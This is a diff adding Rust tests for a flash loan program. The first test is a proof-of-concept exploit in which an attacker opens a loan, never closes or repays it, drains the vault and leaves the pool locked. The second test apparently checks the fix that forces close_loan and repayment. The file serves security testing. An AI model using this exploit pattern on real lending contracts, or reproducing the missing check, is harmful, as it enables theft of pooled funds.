@@ -0,0 +1,59 @@
+#[tokio::test]
+async fn test_open_loan_without_close_exploit() {
+    println!("\n=== EXPLOIT: Flash Loan Opened And Never Closed ===\n");
+
+    let mallory = Keypair::new();
+    let pool = create_pool(1_000_000).await;
+
+    println!("1. Transaction: [open_loan(1,000,000)] - no close_loan");
+    // Vulnerable: nothing requires close_loan to follow
+    send_transaction(&[open_loan_ix(&pool, &mallory, 1_000_000)], &[&mallory])
+        .await
+        .unwrap();
+
+    assert_eq!(get_token_balance(&mallory).await, 1_000_000);
+    assert_eq!(get_vault_balance(&pool).await, 0);
+    assert!(get_pool(&pool).await.loan_active);
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ 1,000,000 borrowed and never repaid");
+    println!("   ✗ loan_active stuck at true; no one else can borrow");
+}
+
+#[tokio::test]
+async fn test_close_loan_required_in_transaction() {
+    println!("\n=== SECURITY: close_loan Must Follow open_loan ===\n");
+
+    let mallory = Keypair::new();
+    let pool = create_pool(1_000_000).await;
+
+    println!("1. Transaction: [open_loan] alone");
+    let result = send_transaction(&[open_loan_ix(&pool, &mallory, 1_000_000)], &[&mallory]).await;
+    assert!(result.is_err());
+    println!("   ✓ Error: MissingCloseLoan");
+
+    println!("\n2. Transaction: [open_loan, close_loan] without repaying");
+    let result = send_transaction(
+        &[open_loan_ix(&pool, &mallory, 1_000_000), close_loan_ix(&pool)],
+        &[&mallory],
+    )
+    .await;
+    assert!(result.is_err());
+    assert_eq!(get_vault_balance(&pool).await, 1_000_000);
+    println!("   ✓ Error: NotRepaid - whole transaction reverted");
+
+    println!("\n3. Transaction: [open_loan, repay 1,000,900, close_loan]");
+    fund(&mallory, 900).await;
+    send_transaction(
+        &[
+            open_loan_ix(&pool, &mallory, 1_000_000),
+            spl_transfer_ix(&mallory, &pool, 1_000_900),
+            close_loan_ix(&pool),
+        ],
+        &[&mallory],
+    )
+    .await
+    .unwrap();
+    assert!(!get_pool(&pool).await.loan_active);
+    println!("   ✓ Loan repaid with fee; flag cleared");
+}